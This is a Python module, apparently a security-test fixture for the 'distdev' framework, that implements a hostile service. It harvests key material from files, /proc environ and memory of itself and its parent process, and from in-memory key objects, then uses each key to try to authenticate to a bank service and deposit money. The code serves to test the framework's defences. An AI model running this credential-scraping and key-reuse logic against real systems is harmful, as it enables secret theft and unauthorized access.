"""A hostile service: it looks for key material everywhere its process can reach, and tries
every key it finds to call the bank as the root, over the real transport, with distdev's own
client. It also calls the bank through a proxy handed to it at runtime."""

from __future__ import annotations

from typing import Any

from distdev import ServiceProxy, effect, import_service

notes = import_service("./notes.py")
_bank: ServiceProxy | None = None


def note(text: str) -> int:
    return notes.add(text)


def take(bank: ServiceProxy) -> None:
    global _bank
    _bank = bank


def use_bank(cents: int) -> int:
    assert _bank is not None, "hand_over() first"
    return _bank.deposit(cents)


def attack(folders: list[str], bank_address: str) -> dict:
    """Read every file under ``folders``, this process's environment and its parent's, and the
    keys this process holds in memory; then call the bank as ``app`` with each key found, as
    an edge key and as a master secret. Returns what it read, what it could not, and how the
    bank answered."""
    return _attack(folders, bank_address)


@effect
def _attack(folders: list[str], bank_address: str) -> dict:
    """An effect may do any IO: the attack runs inside one."""
    report: dict[str, Any] = {"read": [], "unreadable": {}, "candidates": 0, "welcomed": [],
                              "refused": 0, "refusals": []}
    found: set[bytes] = set()
    for folder in folders:
        for path in _files(folder):
            _read(path, report, found)
    _read("/proc/self/environ", report, found)
    import os

    _read(f"/proc/{os.getppid()}/environ", report, found)  # the supervisor's (or raylet's)
    _read(f"/proc/{os.getppid()}/mem", report, found)
    found.update(value.encode() for value in os.environ.values())
    found.update(_keys_in_memory())
    report["candidates"] = len(found)
    for key in sorted(found):
        _try_as_app(key, bank_address, report)
    return report


def _files(folder: str) -> list[str]:
    import os

    return [os.path.join(top, name) for top, _dirs, names in os.walk(folder) for name in names]


def _read(path: str, report: dict[str, Any], found: set[bytes]) -> None:
    """Read ``path``; every 64-hex-digit word (a master secret) and every base64 32-byte word
    (a key file's keys) in it is a key to try."""
    import base64
    import binascii
    import re

    try:
        with open(path, "rb") as f:
            data = f.read(1 << 20)
    except OSError as exc:
        report["unreadable"][path] = type(exc).__name__
        return
    report["read"].append(path)
    found.update(re.findall(rb"[0-9a-f]{64}", data))
    for word in re.findall(rb"[A-Za-z0-9+/]{43}=", data):
        try:
            found.add(base64.b64decode(word))
        except binascii.Error:
            pass


def _keys_in_memory() -> set[bytes]:
    """The keys distdev holds for this service, taken from its objects."""
    import gc

    from distdev.engines._keys import ServiceKeys

    keys: set[bytes] = set()
    for thing in gc.get_objects():
        if isinstance(thing, ServiceKeys):
            keys.update(thing._calls.values(), thing._callers.values(), [thing.outside])
    return keys


class _Stolen:
    """Credentials made of one key, whoever is called."""

    remedy = ""

    def __init__(self, key: bytes) -> None:
        self.key = key

    def key_to(self, callee: str) -> bytes:
        return self.key


def _try_as_app(key: bytes, bank_address: str, report: dict[str, Any]) -> None:
    """Call the bank as ``app`` holding ``key``: as app's edge key, as the master secret (the
    edge key derived from it, and the outside key), and as an outside client with it."""
    from distdev.engines import AuthenticationError, Connection
    from distdev.engines._keys import OperatorKey, edge_key

    attempts = [("app", _Stolen(key)), ("app", _Stolen(edge_key(key, "app", "app/bank"))),
                ("app", OperatorKey(key)), ("outside-spy", OperatorKey(key))]
    for caller, credentials in attempts:
        try:
            connection = Connection(bank_address, credentials, caller, 10.0)
        except AuthenticationError as refused:
            report["refused"] += 1
            if str(refused) not in report["refusals"]:
                report["refusals"].append(str(refused))
            continue
        report["welcomed"].append(f"{caller} with {type(credentials).__name__}")
        connection.call(caller, "spy-chain", None, "deposit", [1_000_000], {})
        connection.close()
